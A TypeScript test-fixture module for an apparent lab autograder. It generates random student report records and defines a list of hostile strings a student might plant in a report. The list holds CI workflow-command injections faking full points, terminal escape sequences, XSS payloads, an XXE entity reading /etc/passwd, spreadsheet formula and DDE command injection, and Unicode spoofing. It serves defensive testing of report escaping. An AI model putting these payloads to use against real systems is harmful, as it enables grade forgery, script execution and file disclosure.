/** Records for tests of report formats: random ones, and texts that a student could write to do harm in a report. */
import fc from 'fast-check';
import type { EngineFacts } from '../../helpers/machine/lab-host/lab-host.ts';
import type { CriterionRecord, LabRecord, StudentRecord } from '../../helpers/report/record.ts';
import { hundredths, total } from '../../helpers/report/whole-points.ts';

export const HOSTILE_LINES = [
  '::error::all points, please',
  '  ::notice title=Autograding complete::Points 100/100',
  '::stop-commands::x',
  '::add-mask::0',
  '##[error]obeyed',
  'in the middle ##[add-path]/tmp',
  '%0A::error::decoded%0D%0A',
  'carriage\r::error::returned\r\n::warning::twice',
  '\u001b[2J\u001b[31mred\u0007',
  '\u001b]0;a title\u0007 \u001b]8;;https://evil.example\u001b\\a link\u001b]8;;\u001b\\ \u009b31m',
  '```\n````\nout of the fence',
  '| a | b |\n|---|---|',
  '<script>alert(1)</script><img src=x onerror=y><details>',
  '"><svg onload=alert(1)> \' onmouseover=alert(1) x="',
  '[click](https://evil.example) ![see](https://evil.example/x.png)',
  '[click](javascript:alert(1)) javascript:alert(1) data:text/html,<b>',
  '<https://evil.example> https://evil.example www.evil.example a@evil.example',
  '@octocat @org/team #12',
  '\u202egnp.exe\u202c \u2066hidden\u2069 \u200f \u061c',
  'zero\u200bwidth\u200djoined\ufeffmark\u2060',
  `flood${'\u0301\u0316'.repeat(300)}ed`,
  '$$\\frac{1}{2}$$ **bold** _it_ ~~gone~~ `code',
  '# heading\n- item\n> quote\n***',
  '<!-- swallowed',
  '&lt;b&gt; \\| \\` \\',
  ']]> <![CDATA[ <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e; &#0; <?xml version="2"?>',
  '</failure></testcase></testsuite>',
  'not XML \ufffe \uffff \u000b \u0000',
  'half a character \ud83d',
  'the other half \udca9 and what bad bytes become \ufffd',
  '\u0000\u0085\u2028::error::after a separator',
  '=HYPERLINK("https://evil.example?"&A1;"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+2\n-3+4;=5+6\t=7+8',
  '＝1+1',
  '"quoted","cells"\r\n"more",rows;and;cells',
];
export const HOSTILE = HOSTILE_LINES.join('\n');

/** A megabyte on one line, and a hundred thousand lines. */
export const LONG_LINE = `long <b>${'x'.repeat(1_000_000)}`;
export const MANY_LINES = 'another line &\n'.repeat(100_000);

/** A fixed seed: a failure is the same failure tomorrow. */
export const RUNS = { seed: 50, numRuns: 60 };

/** When reports are written, in tests: labs are due before and after it. */
export const NOW = new Date('2026-09-10T12:00:00.000Z');

const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.array(fc.constantFrom(...HOSTILE_LINES), { minLength: 1, maxLength: 3 }).map((lines) => lines.join('\n')),
);
const seenText = anyText.map((text) => text || '-');
const wholeMax = fc.integer({ min: 1, max: 30 });
const fractionalMax = fc.integer({ min: 1, max: 300 }).map((tenths) => tenths / 10);

function anyCriterion(maxima: fc.Arbitrary<number>): fc.Arbitrary<Omit<CriterionRecord, 'id'>> {
  return fc
    .record({
      title: seenText,
      status: fc.constantFrom('passed', 'passed', 'passed', 'failed', 'failed', 'skipped', 'error'),
      maxScore: maxima,
      expected: anyText,
      actual: seenText,
      hint: anyText,
      evidence: fc.array(fc.record({ what: anyText, output: anyText }), { maxLength: 2 }),
    })
    .map((criterion) => ({
      ...criterion,
      score: criterion.status === 'passed' ? criterion.maxScore : 0,
      durationMs: 1,
      ...(criterion.status === 'skipped' ? { blockedBy: 'c0' } : {}),
    }));
}

const anyCause = fc.oneof(
  fc.constant(undefined),
  fc.record({ says: causeText(700) }),
  fc.record({ says: causeText(700), what: causeText(400), output: causeText(4000) }),
);

/** @param most What the schema allows. */
function causeText(most: number): fc.Arbitrary<string> {
  return seenText.map((text) => text.slice(0, most));
}

function anyLab(maxima: fc.Arbitrary<number>): fc.Arbitrary<Omit<LabRecord, 'lab'>> {
  const graded = fc
    .tuple(fc.array(anyCriterion(maxima), { minLength: 1, maxLength: 14 }), anyCause)
    .map(([criteria, cause]) => ({
      ...labOf(
        criteria.some(({ status }) => status === 'error') ? 'error' : 'graded',
        criteria.map((criterion, i) => ({ id: `c${i}`, ...criterion })),
      ),
      ...(cause && { cause }),
    }));
  const without = fc
    .record({ status: fc.constantFrom('missing', 'invalid', 'error'), maxScore: maxima, message: anyText })
    .map(({ status, maxScore, message }) => ({ ...labOf(status, []), maxScore, message }));
  return fc
    .tuple(fc.oneof({ weight: 4, arbitrary: graded }, { weight: 1, arbitrary: without }), fc.option(seenText))
    .map(([lab, title]) => ({ ...lab, ...(title !== null && { title }) }));
}

function labOf(status: LabRecord['status'], criteria: CriterionRecord[]): Omit<LabRecord, 'lab'> {
  return { status, ...total(criteria), durationMs: 1, criteria, topology: { networks: [], containers: [] } };
}

function anyRecordWith(maxima: fc.Arbitrary<number>): fc.Arbitrary<StudentRecord> {
  return fc
    .record({ student: seenText, labs: fc.array(anyLab(maxima), { minLength: 1, maxLength: 4 }) })
    .map(({ student, labs }) =>
      recordOf(
        student,
        labs.map((lab, i) => ({ lab: `lab-${i}`, ...lab })),
      ),
    );
}

export const anyRecord = anyRecordWith(wholeMax);
export const anyFractionalRecord = anyRecordWith(fractionalMax);

const anyRubric = fc.record({
  visibility: fc.constantFrom(undefined, undefined, 'after_due_date', 'hidden'),
  withheld: fc.boolean(),
});
/** Not due, due before NOW, due after it; late or not. */
const anyDate = fc.record({
  due: fc.constantFrom(undefined, '2026-09-01T00:00:00.000Z', '2026-09-20T00:00:00.000Z'),
  percent: fc.constantFrom(0, 25),
});

/** Records as a rubric makes them: hidden rules, due dates, points taken off for being late; some rules withheld. */
export const anyRubricRecord: fc.Arbitrary<StudentRecord> = fc
  .record({
    record: anyFractionalRecord,
    rubrics: fc.array(anyRubric, { minLength: 14, maxLength: 14 }),
    dates: fc.array(anyDate, { minLength: 4, maxLength: 4 }),
  })
  .map(({ record, rubrics, dates }) =>
    recordOf(
      record.student,
      record.labs.map((lab, i) => withRubric(lab, rubrics, dates[i]!)),
    ),
  );

function withRubric(
  lab: LabRecord,
  rubrics: { visibility: CriterionRecord['visibility'] | undefined; withheld: boolean }[],
  { due, percent }: { due: string | undefined; percent: number },
): LabRecord {
  const criteria = lab.criteria.map((criterion, i): CriterionRecord => {
    const { visibility, withheld } = rubrics[i]!;
    const { blockedBy, ...rest } = criterion;
    const away = withheld && criterion.status === 'skipped';
    return {
      ...rest,
      ...(visibility === undefined ? {} : { visibility }),
      ...(away ? { withheld: true as const, maxScore: 0 } : blockedBy === undefined ? {} : { blockedBy }),
      score: hundredths((criterion.score * (100 - percent)) / 100),
    };
  });
  return {
    ...lab,
    ...(criteria.length === 0 ? {} : total(criteria)),
    criteria,
    ...(due === undefined ? {} : { due }),
    ...(due === undefined || percent === 0 ? {} : { late: { handedIn: '2026-09-21T00:00:00.000Z', percent } }),
  };
}

/** The same record with a text of its own, which says where it stands, in every place that could hold one. */
export function marked(record: StudentRecord): StudentRecord {
  const labs = record.labs.map((lab, l) => ({
    ...lab,
    criteria: lab.criteria.map((criterion, c) => {
      const of = (place: string): string => `${MARK}${l}x${c}x${place}`;
      return {
        ...criterion,
        // Ids are named where a rule stands in another one's way.
        id: of('id').toLowerCase(),
        title: of('title'),
        expected: of('expected'),
        actual: of('actual'),
        hint: of('hint'),
        evidence: [{ what: of('what'), output: of('output') }],
        ...(criterion.blockedBy === undefined ? {} : { blockedBy: `${MARK}${l}x0xid`.toLowerCase() }),
      };
    }),
  }));
  return { ...record, student: 'alice', labs };
}

const MARK = 'zq';

/** Which criteria of which labs a text says something of, as `<lab>x<criterion>`. */
export function marksIn(text: string): Set<string> {
  return new Set([...text.matchAll(/zq(\d+x\d+)x/gi)].map(([, where]) => where!));
}

export const ENGINE: EngineFacts = {
  version: '28.5.2',
  apiVersion: '1.51',
  host: 'disposable',
  live: false,
  images: 'stand-ins',
  outside: 'another machine',
  limits: [],
};

export function recordOf(student: string, labs: LabRecord[]): StudentRecord {
  return {
    schemaVersion: 1,
    student,
    ...total(labs),
    startedAt: '2026-09-01T10:20:30.456Z',
    durationMs: 1,
    engine: ENGINE,
    labs,
  };
}

/** A record of one lab with these criteria; what is not said is harmless. */
export function recordWith(criteria: Partial<CriterionRecord>[], student = 'alice'): StudentRecord {
  const whole = criteria.map((criterion, i) => ({
    id: `c${i}`,
    title: `rule ${i}`,
    status: 'failed' as const,
    score: 0,
    maxScore: 10,
    expected: 'it holds',
    actual: 'it does not hold',
    hint: 'look there',
    evidence: [],
    durationMs: 1,
    ...criterion,
  }));
  const status = whole.some((each) => each.status === 'error') ? 'error' : 'graded';
  return recordOf(student, [{ lab: 'a-lab', ...labOf(status, whole) }]);
}

/** A record in which every text is this one, for 30 criteria that do not hold. */
export function hostileRecord(text: string): StudentRecord {
  return recordWith(
    Array.from({ length: 30 }, (_, i) => ({
      title: text.slice(0, 80),
      status: i % 3 === 0 ? ('skipped' as const) : ('failed' as const),
      expected: text,
      actual: text,
      hint: text,
      evidence: [{ what: text, output: text }],
    })),
    text.slice(0, 60),
  );
}
